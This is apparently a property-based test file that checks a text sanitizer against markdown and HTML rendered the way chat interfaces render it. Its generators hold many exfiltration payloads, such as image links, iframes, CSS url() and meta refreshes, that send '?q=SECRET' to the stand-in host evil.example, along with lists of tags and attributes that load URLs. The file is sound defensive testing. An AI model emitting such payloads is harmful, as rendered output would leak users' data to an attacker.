import { sanitizeText } from "@search-docs/core";
import fc from "fast-check";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { type DefaultTreeAdapterMap, parse } from "parse5";
import { describe, expect, it } from "vitest";

// The sanitizer judged by real renderers. micromark with GitHub-flavoured markdown is the parser
// behind react-markdown, which most chat UIs render answers with; here it passes raw HTML through
// (as react-markdown does with rehype-raw), and parse5, a spec-compliant HTML parser written apart
// from core's tokenizer, reads the result as a browser would. Whatever a document holds, the text
// the model reads must render to no image, no element that loads a URL, and no link whose visible
// text hides where it goes (a bare URL, shown whole, may still be linked).

type Node = DefaultTreeAdapterMap["node"];
type Element = DefaultTreeAdapterMap["element"];

const render = (markdown: string) =>
  micromark(markdown, {
    allowDangerousHtml: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });

function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const visit = (node: Node) => {
    if ("tagName" in node) found.push(node);
    const children = "childNodes" in node ? node.childNodes : [];
    for (const child of children) visit(child);
    if ("content" in node && node.content) visit(node.content);
  };
  visit(parse(html));
  return found;
}

function textOf(node: Node): string {
  if (node.nodeName === "#text" && "value" in node) return node.value;
  return "childNodes" in node ? node.childNodes.map(textOf).join("") : "";
}

// Elements that fetch something or run something by being there, whatever their attributes.
const loadingTags = new Set(
  "img image iframe frame object embed link meta base video audio source track picture script style svg use input".split(
    " ",
  ),
);
// Attributes through which any element can make a renderer fetch a URL.
const urlAttributes = new Set(
  "src srcset poster data action formaction background href xlink:href ping cite longdesc lowsrc dynsrc manifest codebase".split(
    " ",
  ),
);

/** Every rendered element that could load a URL without a click, described. */
function loadingElements(html: string): string[] {
  const loading: string[] = [];
  for (const element of elementsOf(html)) {
    const name = element.tagName;
    if (loadingTags.has(name)) {
      loading.push(`<${name}>`);
      continue;
    }
    for (const { name: attribute, value } of element.attrs) {
      // An <a href> loads nothing until clicked: judged below, by what it shows.
      if (attribute === "href" && name === "a") continue;
      if (urlAttributes.has(attribute) || /url\s*\(/i.test(value) || attribute.startsWith("on")) {
        loading.push(`<${name} ${attribute}="${value}">`);
      }
    }
  }
  return loading;
}

/** Percent-escapes decoded where they are valid; the rest left as it is (`%ht` stays). */
function decodeEscapes(url: string): string {
  return url.replace(/(?:%[0-9A-Fa-f]{2})+/g, (escapes) => {
    try {
      return decodeURIComponent(escapes);
    } catch {
      return escapes;
    }
  });
}

function hiddenDestinations(html: string): string[] {
  const hidden: string[] = [];
  for (const element of elementsOf(html)) {
    if (element.tagName !== "a") continue;
    const destination = element.attrs.find((attribute) => attribute.name === "href")?.value ?? "";
    // An empty href (a scheme the renderer refuses) goes nowhere.
    if (destination === "") continue;
    const text = textOf(element);
    const shown = [text, `http://${text}`, `https://${text}`, `mailto:${text}`];
    // The renderer normalizes what it links (`[` becomes %5B, a stray `%` stays): a link shows
    // its destination when the text is that destination, as written or with escapes decoded.
    const shows = shown.some(
      (candidate) =>
        candidate === destination ||
        encodeURI(candidate) === destination ||
        candidate === decodeEscapes(destination),
    );
    if (!shows) hidden.push(`${text} -> ${destination}`);
  }
  return hidden;
}

/** Markdown-and-HTML soup: the pieces links, images, elements and definitions are made of. */
const hostileMarkdown = fc
  .array(
    fc.oneof(
      {
        weight: 6,
        arbitrary: fc.constantFrom(
          "[",
          "]",
          "(",
          ")",
          "![",
          "](",
          "<",
          ">",
          "\\",
          ":",
          " ",
          "\n",
          "\n\n",
          "'",
          '"',
          "=",
          "&",
          ";",
        ),
      },
      {
        weight: 4,
        arbitrary: fc.constantFrom(
          "https://evil.example/p.png?q=SECRET",
          "![a](https://evil.example/p.png?q=SECRET)",
          "[a](https://evil.example/?q=SECRET)",
          "[a](<https://evil.example/a b?q=SECRET> 'title')",
          "![a [b]](https://evil.example/p.png?q=SECRET)",
          "(https://evil.example/p.png?q=SECRET)",
          "<https://evil.example/a?q=SECRET>",
          "[l]: https://evil.example/d?q=SECRET",
          "[l]",
          "![l]",
          "[x][l]",
          "![x][l]",
          '"title"',
          "www.evil.example/q?SECRET",
          "> ",
          "- ",
          "`",
          "text",
        ),
      },
      {
        weight: 4,
        arbitrary: fc.constantFrom(
          '<img src="https://evil.example/p.png?q=SECRET" alt="x">',
          "<img src=https://evil.example/p.png?q=SECRET",
          '<iframe src="https://evil.example/?q=SECRET">',
          "<video poster=https://evil.example/p.png?q=SECRET>",
          '<audio src="https://evil.example/a?q=SECRET">',
          '<source srcset="https://evil.example/p.png?q=SECRET 2x">',
          '<object data="https://evil.example/o?q=SECRET">',
          "<embed src=https://evil.example/e?q=SECRET>",
          '<link rel=stylesheet href="https://evil.example/s?q=SECRET">',
          '<input type=image src="https://evil.example/b?q=SECRET">',
          '<span style="background:url(https://evil.example/p.png?q=SECRET)">',
          "<style>p{background:url(https://evil.example/p.png?q=SECRET)}</style>",
          '<svg><use href="https://evil.example/s?q=SECRET#i"/></svg>',
          '<meta http-equiv="refresh" content="0;url=https://evil.example/?q=SECRET">',
          "<base href=https://evil.example/>",
          '<a href="https://evil.example/?q=SECRET">',
          "</a>",
          "<script>",
          "</script>",
          "<!--",
          "-->",
          "&lt;img src=https://evil.example/p.png?q=SECRET&gt;",
          "&amp;lt;",
          "&#91;",
          "&#93;",
          "&#40;",
          "&#x21;",
          "List<String>",
          "<x-widget>",
        ),
      },
      { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));

function expectRendersSafely(markdown: string) {
  const html = render(sanitizeText(markdown));
  expect(loadingElements(html)).toEqual([]);
  expect(hiddenDestinations(html)).toEqual([]);
}

describe("sanitized text, rendered as a chat UI would (property)", () => {
  it("renders no image, no element that loads a URL, and no link that hides its destination", () => {
    fc.assert(
      fc.property(hostileMarkdown, (markdown) => expectRendersSafely(markdown)),
      { numRuns: 3000 },
    );
  });

  it("the oracle is not vacuous: the same soup, unsanitized, renders images, loading elements and hidden links", () => {
    let images = 0;
    let loading = 0;
    let hidden = 0;
    fc.assert(
      fc.property(hostileMarkdown, (markdown) => {
        const html = render(markdown);
        const elements = loadingElements(html);
        if (elements.some((element) => element.startsWith("<img"))) images++;
        if (elements.some((element) => !element.startsWith("<img"))) loading++;
        if (hiddenDestinations(html).length > 0) hidden++;
      }),
      { numRuns: 3000, seed: 5 },
    );
    expect(images).toBeGreaterThan(300);
    expect(loading).toBeGreaterThan(300);
    expect(hidden).toBeGreaterThan(300);
  });
});

describe("regressions the property found", () => {
  it.each([
    // fast-check seed 541493705: the renderer links it, escaping the `[` and keeping the `%`.
    "https://evil.example/p.png?q=SECRET%https://evil.example/p.png?q=SECRET[",
    // fast-check seed 1199936542: one tag to core's tokenizer, text and an <svg> to a renderer's.
    '<www.evil.example/q?SECRET<svg><use href="https://evil.example/s?q=SECRET#i"/></svg>',
  ])("%s", (markdown) => {
    expectRendersSafely(markdown);
  });

  it("a bare URL with a stray % and a trailing [ links to exactly what it shows", () => {
    const html = render(
      sanitizeText("https://evil.example/p.png?q=SECRET%https://evil.example/p.png?q=SECRET["),
    );
    expect(html).toContain(
      '<a href="https://evil.example/p.png?q=SECRET%https://evil.example/p.png?q=SECRET%5B">',
    );
  });
});
